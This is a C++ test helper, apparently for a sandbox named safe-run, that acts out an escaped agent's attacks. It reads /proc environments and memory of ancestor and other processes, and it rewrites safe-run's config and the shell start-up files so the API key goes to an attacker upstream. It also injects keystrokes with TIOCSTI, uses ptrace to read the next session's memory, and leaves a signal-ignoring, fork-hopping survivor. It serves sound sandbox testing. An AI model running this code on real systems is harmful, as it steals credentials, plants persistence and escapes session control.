// saferun-jail-attacker: the attacks of issue 8, made as an agent running as the same user
// would make them — on everything around safe-run rather than safe-run itself. Prints one
// line per attack, "attack NAME: blocked|obtained|done ...", and appends what it reads to
// LOOT (the test searches it for the key's bytes).
//
//   agent LOOT [HEARTBEAT]  run as safe-run's child: read every ancestor's and every visible
//                         process's environment and memory, write safe-run's config and the
//                         shell start-up files, read ATTACK_READ_PATH, push a command into
//                         the terminal with TIOCSTI (ATTACK_TYPE), and leave a fork-hopping
//                         survivor that appends to HEARTBEAT while it lives
//   hop HEARTBEAT SECONDS the survivor: ignores SIGTERM/SIGHUP/SIGINT and forks itself
//                         anew every few milliseconds, for at most SECONDS
//   early-mem LOOT FLAG -- COMMAND...
//                         runs COMMAND (the next session's safe-run) stopped at its execve,
//                         opens its /proc/<pid>/mem and maps in that moment, lets it run, and
//                         once FLAG exists reads its writable memory through the early fds

#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

namespace {

std::ofstream loot;

void report(const std::string& attack, const std::string& outcome) {
  std::cout << "attack " << attack << ": " << outcome << std::endl;
}

std::string blocked() { return std::string("blocked ") + std::strerror(errno); }

std::string env(const char* name) {
  const char* value = std::getenv(name);
  return value == nullptr ? std::string() : value;
}

// Appends a whole file to the loot; true when it could be read.
bool loot_file(const std::string& path) {
  int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return false;
  char buffer[65536];
  ssize_t n;
  std::size_t total = 0;
  while ((n = ::read(fd, buffer, sizeof buffer)) > 0) loot.write(buffer, n), total += static_cast<std::size_t>(n);
  ::close(fd);
  return total > 0;
}

// Writable regions through an open mem fd, regions taken from an open maps fd.
std::size_t loot_memory(int maps_fd, int mem_fd) {
  std::string maps;
  char buffer[4096];
  ssize_t n;
  ::lseek(maps_fd, 0, SEEK_SET);
  while ((n = ::read(maps_fd, buffer, sizeof buffer)) > 0) maps.append(buffer, static_cast<std::size_t>(n));
  std::size_t total = 0;
  std::size_t at = 0;
  while (at < maps.size()) {
    auto end_of_line = maps.find('\n', at);
    auto line = maps.substr(at, end_of_line - at);
    at = end_of_line == std::string::npos ? maps.size() : end_of_line + 1;
    unsigned long start = 0, end = 0;
    char perms[5] = {};
    // Secrets live in small mappings; huge ones are sanitizer shadow or reservations.
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, perms) != 3 || perms[0] != 'r' || perms[1] != 'w' ||
        end - start > (64ul << 20))
      continue;
    std::vector<char> region(end - start);
    auto got = ::pread(mem_fd, region.data(), region.size(), static_cast<off_t>(start));
    if (got > 0) loot.write(region.data(), got), total += static_cast<std::size_t>(got);
  }
  return total;
}

std::size_t loot_process_memory(pid_t pid) {
  auto base = "/proc/" + std::to_string(pid);
  int maps = ::open((base + "/maps").c_str(), O_RDONLY | O_CLOEXEC);
  int mem = ::open((base + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  std::size_t total = maps >= 0 && mem >= 0 ? loot_memory(maps, mem) : 0;
  if (maps >= 0) ::close(maps);
  if (mem >= 0) ::close(mem);
  return total;
}

pid_t parent_of(pid_t pid) {
  std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
  std::string text((std::istreambuf_iterator<char>(stat)), {});
  auto close = text.rfind(')');
  if (close == std::string::npos) return 0;
  char state = 0;
  int parent = 0;
  return std::sscanf(text.c_str() + close + 1, " %c %d", &state, &parent) == 2 ? parent : 0;
}

// The GitHub Actions shape (a key in an ancestor's initial environment) and the quick-start
// shape (a key exported in an interactive shell's memory), walking up from our parent.
void attack_ancestors() {
  int environments = 0, memories = 0, seen = 0;
  for (pid_t pid = ::getppid(); pid > 1 && seen < 32; pid = parent_of(pid), ++seen) {
    environments += loot_file("/proc/" + std::to_string(pid) + "/environ");
    memories += loot_process_memory(pid) > 0;
  }
  report("ancestor-environ", environments > 0 ? "obtained " + std::to_string(environments) : "blocked (none readable)");
  report("ancestor-memory", memories > 0 ? "obtained " + std::to_string(memories) : "blocked (none readable)");
  report("ancestors-visible", std::to_string(seen));
}

void attack_process_table() {
  DIR* proc = ::opendir("/proc");
  int visible = 0, environments = 0;
  while (proc != nullptr) {
    auto* entry = ::readdir(proc);
    if (entry == nullptr) break;
    char* end = nullptr;
    long pid = std::strtol(entry->d_name, &end, 10);
    if (*end != '\0' || pid <= 0) continue;
    ++visible;
    environments += loot_file(std::string("/proc/") + entry->d_name + "/environ");
    loot_file(std::string("/proc/") + entry->d_name + "/cmdline");
  }
  if (proc != nullptr) ::closedir(proc);
  report("process-table", "saw " + std::to_string(visible) + " processes, read " + std::to_string(environments) +
                              " environments");
}

void attempt_write(const std::string& name, const std::string& path, const std::string& content, bool append) {
  for (auto slash = path.find('/', 1); slash != std::string::npos; slash = path.find('/', slash + 1))
    ::mkdir(path.substr(0, slash).c_str(), 0700);
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC | (append ? O_APPEND : O_TRUNC), 0600);
  if (fd < 0) return report(name, blocked());
  bool written = ::write(fd, content.data(), content.size()) == static_cast<ssize_t>(content.size());
  ::close(fd);
  report(name, written ? "done" : blocked());
}

// Persistence: where the next session sends the key, and code in the user's next shell.
void attack_persistence() {
  auto home = env("HOME");
  auto upstream = env("ATTACK_UPSTREAM");
  auto config = R"({"routes": [{"name": "anthropic", "provider": "anthropic", "upstream": ")" + upstream +
                R"(", "credential": "x-api-key: {secret}", "secret": {"env": "ANTHROPIC_API_KEY"},
    "allow": ["POST /v1/messages"], "child_env": {"ANTHROPIC_BASE_URL": "{base_url}"}}]})";
  attempt_write("write-config", home + "/.config/safe-run/config.json", config, false);
  attempt_write("write-bashrc", home + "/.bashrc", "export ANTHROPIC_BASE_URL=" + upstream + "\n", true);
  attempt_write("create-bash-profile", home + "/.bash_profile", "export ANTHROPIC_BASE_URL=" + upstream + "\n", false);
}

void attack_secret_store() {
  auto path = env("ATTACK_READ_PATH");
  if (path.empty()) return;
  report("secret-file", loot_file(path) ? "obtained" : "blocked (nothing readable)");
}

void attack_terminal() {
  auto typed = env("ATTACK_TYPE");
  if (typed.empty() || !::isatty(0)) return;
  for (char c : typed) {
    if (::ioctl(0, TIOCSTI, &c) != 0) return report("tiocsti", blocked());
  }
  report("tiocsti", "done");
}

// A double-forked, session-leading survivor.
void leave_survivor(const char* self, const std::string& heartbeat) {
  if (::fork() != 0) {
    struct stat info{};
    for (int i = 0; i < 200 && (::stat(heartbeat.c_str(), &info) != 0 || info.st_size == 0); ++i)
      std::this_thread::sleep_for(std::chrono::milliseconds(10));  // it beats before we go
    return;
  }
  ::setsid();
  if (::fork() != 0) ::_exit(0);
  int null = ::open("/dev/null", O_RDWR);
  for (int fd : {0, 1, 2}) ::dup2(null, fd);
  ::execl(self, self, "hop", heartbeat.c_str(), "5", nullptr);
  ::_exit(1);
}

[[noreturn]] void hop(const char* heartbeat, int seconds) {
  for (int sig : {SIGTERM, SIGHUP, SIGINT}) ::signal(sig, SIG_IGN);
  int beat = ::open(heartbeat, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0600);
  auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  while (std::chrono::steady_clock::now() < until) {
    pid_t child = ::fork();
    if (child > 0) ::_exit(0);  // the parent goes; its child carries on under a new pid
    ssize_t ignored = ::write(beat, ".", 1);
    (void)ignored;
    std::this_thread::sleep_for(std::chrono::milliseconds(3));
  }
  ::_exit(0);
}

int early_mem(const std::string& flag, char** command) {
  pid_t child = ::fork();
  if (child == 0) {
    ::ptrace(PTRACE_TRACEME, 0, nullptr, nullptr);
    ::execv(command[0], command);
    ::_exit(127);
  }
  int status = 0;
  ::waitpid(child, &status, 0);  // stopped at the execve: the new image, before its main()
  auto base = "/proc/" + std::to_string(child);
  int maps = ::open((base + "/maps").c_str(), O_RDONLY | O_CLOEXEC);
  int mem = ::open((base + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  report("early-open", mem >= 0 && maps >= 0 ? "done" : blocked());
  ::ptrace(PTRACE_DETACH, child, nullptr, nullptr);
  for (int i = 0; i < 1000 && ::access(flag.c_str(), F_OK) != 0; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  std::size_t read = mem >= 0 && maps >= 0 ? loot_memory(maps, mem) : 0;
  report("early-mem", read > 0 ? "obtained " + std::to_string(read) + " bytes" : "blocked (nothing readable)");
  ::waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

}  // namespace

int main(int argc, char** argv) {
  std::string mode = argc > 1 ? argv[1] : "";
  if (mode == "hop" && argc == 4) hop(argv[2], std::atoi(argv[3]));
  if (argc < 3) {
    std::cerr << "usage: saferun-jail-attacker agent LOOT [HEARTBEAT] | hop HEARTBEAT SECONDS | early-mem LOOT FLAG -- CMD...\n";
    return 2;
  }
  loot.open(argv[2], std::ios::binary | std::ios::app);
  if (mode == "early-mem" && argc > 5 && std::string(argv[4]) == "--") return early_mem(argv[3], argv + 5);
  attack_ancestors();
  attack_process_table();
  attack_persistence();
  attack_secret_store();
  attack_terminal();
  if (argc > 3) {
    leave_survivor(argv[0], argv[3]);
    report("survivor", "left");
  }
  return 0;
}
